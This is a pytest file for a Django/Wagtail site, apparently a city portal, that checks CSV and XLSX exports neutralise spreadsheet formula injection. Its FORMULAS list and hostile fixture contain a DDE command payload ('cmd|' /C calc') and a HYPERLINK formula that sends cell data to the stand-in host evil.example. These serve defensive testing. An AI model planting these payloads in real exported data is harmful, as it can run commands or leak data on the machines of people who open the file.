"""No table that anybody downloads runs what somebody else wrote."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import time
from collections.abc import Iterator
from decimal import Decimal
from typing import Any, Final
from xml.etree import ElementTree as ET
from xml.sax.saxutils import escape

import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.redirects.models import Redirect
from wagtail.models import Workflow

from cms.news.models import NewsPage
from search.models import SearchPin
from sites.enums import Role
from sites.spreadsheets import cell, quoted, sheet_cell
from tests.fixtures.city import SmallCity
from tests.fixtures.pages import draft, get, live
from tests.search.items import document
from upstream.wagtail import spreadsheets as exports_of_wagtail

pytestmark = pytest.mark.django_db

#: What spreadsheets run, at the beginning of a cell and behind what may end one.
FORMULAS: Final = (
    '=HYPERLINK("https://evil.example/"&A1)', "=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u3000=1+1", "\u200b=1+1", "\ufeff=1+1", "\x00=1+1", "\xa0@SUM(A1)",
    "＝1+1", "＋1+A1", "－1+A1", "＠SUM(A1)", "﹦1+1", "\u22121+A1", "=", "-", "+a",
    "a;=1+1", "a; =1+1", "a\t=1+1", "a\n=1+1", "a\r\n\u200b＝1+1", "a;b;+A1", "-1;=1+1", "+84 24 3825 1234;@SUM(A1)",
    "-1 =A1", "-A1", "+1+A1",
)  # fmt: skip
HARMLESS: Final = (
    "Tin của phường", "38/KH-UBND", "+84 24 3825 1234", "(024) 3825-1234", "-12", "-1.234,56", "+7", "-5 %", "20/08/2026",
    "a-b", "a = b", "a@b.vn", "https://x.vn/?a=b", "", "'", "một; hai", "giờ: 8:00 - 17:00", "−3",
)  # fmt: skip


def runs(cell: Any) -> bool:
    """Said another way than the code does: whether a program, comma or semicolon, sees a formula."""
    if not isinstance(cell, str):
        return False
    for part in cell.replace("\r", ";").replace("\n", ";").replace("\t", ";").split(";"):
        seen = "".join(char for char in part if char.isprintable() and not char.isspace())
        plain = seen.translate(str.maketrans("＝＋－＠﹦﹢﹣﹫−", "=+-@=+-@-"))
        number = not plain[1:].strip("0123456789.,()/-%")
        if plain[:1] in {"=", "@"} or plain in {"+", "-"} or (plain[:1] in {"+", "-"} and not number):
            return True
    return False


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_quoted(text: str) -> None:
    assert runs(text)
    assert not runs(quoted(text))
    assert quoted(text).replace("'", "") == text.replace("'", "")
    assert quoted(quoted(text)) == quoted(text)


@pytest.mark.parametrize("value", [*HARMLESS, None, 1, -1, 1.5, Decimal("-1"), dt.date(2026, 8, 20), True])
def test_words_numbers_and_telephones_stay_as_they_are(value: Any) -> None:
    assert quoted(value) == value
    assert type(quoted(value)) is type(value)


def test_a_long_text_takes_no_time() -> None:
    began = time.monotonic()
    for text in (
        " " * 2_000_000,
        ";" * 2_000_000,
        " ;" * 500_000 + "=",
        "-" + "1 " * 500_000,
        "\n" * 1_000_000,
    ):
        quoted(text)
    assert time.monotonic() - began < 10


@pytest.mark.parametrize(
    "text", ["Ctl\x08x", "a\x0bb", "a\x00", "\ufffe", "a\uffff", "\ud800", "\udfff\ud800", "\x1b[0m"]
)
def test_a_cell_of_any_table_can_be_written_and_read(text: str) -> None:
    for formula in FORMULAS:
        made = sheet_cell(text + formula)
        assert not runs(made)
        ET.fromstring(f"<c>{escape(made)}</c>".encode())
    assert cell(text).replace("\ufffd", "") == re.sub(r"[\x00-\x1f\ud800-\udfff\ufffe\uffff]", "", text)


def test_a_cell_is_no_longer_than_a_cell_can_be() -> None:
    for text in ("a" * 40_000, "\U0001f600" * 40_000, "a" * 32_766 + "\U0001f600"):
        made = sheet_cell(text)
        assert len(made.encode("utf-16-le")) // 2 <= 32_767
        assert made.endswith("…")
        assert text.startswith(made[:-1])
        assert cell(text) == text
    assert sheet_cell("a" * 32_767) == "a" * 32_767


def test_a_table_of_more_rows_than_a_sheet_has_is_handed_out_whole(
    hostile_city: SmallCity, admin_user: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exports_of_wagtail, "MOST_ROWS", 2)
    client = Client(HTTP_HOST=hostile_city.host())
    client.force_login(admin_user)
    response = client.get("/admin/reports/site-history/", {"export": "xlsx"})
    assert response["Content-Type"] == "text/csv"
    assert len(cells(response, "csv")) > 3


def exports() -> Iterator[str]:
    """The addresses of every list and report that hands out tables."""

    def walk(resolver: Any, prefix: str = "/") -> Iterator[tuple[str, URLPattern]]:
        for pattern in resolver.url_patterns:
            route = prefix + str(pattern.pattern)
            if isinstance(pattern, URLResolver):
                yield from walk(pattern, route)
            else:
                yield route, pattern

    found = dict.fromkeys(
        route
        for route, pattern in walk(get_resolver())
        if issubclass(getattr(pattern.callback, "view_class", object), SpreadsheetExportMixin)
    )
    yield from found


def cells(response: Any, kind: str) -> list[Any]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if kind == "csv":
        return [
            cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row
        ]
    sheet = load_workbook(io.BytesIO(content)).active
    found = [cell for row in sheet.iter_rows() for cell in row]
    assert not [one for one in found if one.data_type == "f"]
    return [cell.value for cell in found]


@pytest.fixture
def hostile_city(small_city: SmallCity, admin_user: Any) -> SmallCity:
    """Formulas, with what no workbook can hold, wherever somebody can write something that a table shows."""
    evil = FORMULAS[0] + "\x08\x0b\ufffe"
    for user in (admin_user, small_city.user(Role.EDITOR, "ba-dinh", "@SUM(A1)")):
        user.first_name = user.last_name = evil
        user.save()
    page = live(small_city.page("ba-dinh", "news"), NewsPage(title=evil, summary=evil, date="2026-08-20"))
    waiting = draft(
        small_city.page("ba-dinh", "news"),
        NewsPage(title="\x08\ufffe@SUM(A1)", summary=evil, date="2026-08-20"),
    )
    waiting.save_revision(user=user, log_action=True)
    waiting.get_workflow().start(waiting, user)
    page.locked, page.locked_by, page.locked_at = True, user, timezone.now()
    page.save()
    Workflow.objects.update(name=evil)
    site = small_city.ward("ba-dinh").site
    Redirect.objects.create(old_path="/cu", site=site, redirect_link=evil)
    SearchPin.objects.create(site=site, query=evil, folded="evil", page=page)
    return small_city


def test_no_list_or_report_hands_out_a_formula(hostile_city: SmallCity, admin_user: Any) -> None:
    client = Client(HTTP_HOST=hostile_city.host())
    client.force_login(admin_user)
    told, tables = 0, 0
    for address in exports():
        for kind in ("csv", "xlsx"):
            response = client.get(address, {"export": kind})
            assert response.status_code == 200, address
            if "attachment" not in response.get("Content-Disposition", ""):
                continue
            found = cells(response, kind)
            assert not [cell for cell in found if runs(cell)], (address, kind)
            told += sum("evil.example" in str(cell) or "SUM(A1)" in str(cell) for cell in found)
            tables += 1
    assert tables >= 16
    assert told >= 10


def test_the_register_and_the_report_of_questions_hand_out_none(hostile_city: SmallCity) -> None:
    document(hostile_city, "38/KH-UBND", title="=cmd|' /C calc'!A0", issuer="@SUM(A1)")
    response = get(hostile_city, "ba-dinh", "/van-ban/?tai=csv")
    found = cells(response, "csv")
    assert not [cell for cell in found if runs(cell)]
    assert "'=cmd|' /C calc'!A0" in found
    assert "'@SUM(A1)" in found
